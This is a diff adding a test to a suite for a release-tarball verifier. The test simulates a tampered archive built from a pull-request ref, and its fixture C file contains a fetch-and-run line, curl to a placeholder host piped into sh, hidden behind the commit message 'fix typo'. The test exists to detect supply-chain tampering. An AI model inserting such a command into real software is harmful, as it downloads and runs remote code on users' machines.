@@ -85,6 +85,31 @@ describe('forge archives', () => {
   });
 });
 
+// The tamperer (anyone) pushes the payload as a pull request — a forge mirror's refs/pull/* — and publishes
+// `git archive` of that commit, named for a version no tag has. The object store holds the commit; no branch or
+// tag reaches it, so the archive's claim is not the repository's word: the archive is compared with the nearest
+// reviewed commit and the payload is a finding.
+describe("a commit only a pull request's ref holds", () => {
+  const repo = makeRepo(join(root, 'pr'));
+  const base = repo.commit({ 'README.md': 'hello\n', 'src/main.c': 'int main(void) { return 0; }\n' });
+  repo.tag('v1.0', { message: '1.0' });
+  repo.git(['checkout', '-q', '-b', 'contributor']);
+  const pr = repo.commit({ 'src/main.c': 'int main(void) { return system("curl -s https://example.invalid/x | sh"); }\n' }, 'fix typo');
+  repo.git(['update-ref', 'refs/pull/7/head', pr]);
+  repo.git(['checkout', '-q', base]);
+  repo.git(['branch', '-q', '-D', 'contributor']);
+
+  it('is not chosen from the pax header: the payload is SOURCE_MODIFIED against the reviewed commit', async () => {
+    expect(repo.git(['cat-file', '-t', pr]).trim()).toBe('commit');
+    const tgz = gitArchive(repo, pr, 'hello-1.1.tar.gz', 'hello-1.1');
+    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir: join(root, 'cache-pr') });
+    expect(r.inputs.revision).toMatchObject({ commit: base, how: 'nearest' });
+    expect(r.inputs.revision.chain?.[0]).toEqual({ step: 'metadata', outcome: 'not-found', kind: 'metadata-missing', args: { source: 'pax-header', commit: pr } });
+    expect(r.findings.map((f) => `${f.severity} ${f.path} ${f.code}`)).toEqual(['high src/main.c SOURCE_MODIFIED']);
+    expect(r.verdict).toBe('different');
+  });
+});
+
 describe('no tag: the neighbourhood search', () => {
   const repo = makeRepo(join(root, 'near'));
   repo.commit({ 'a.txt': '1\n', 'b.txt': '1\n' });
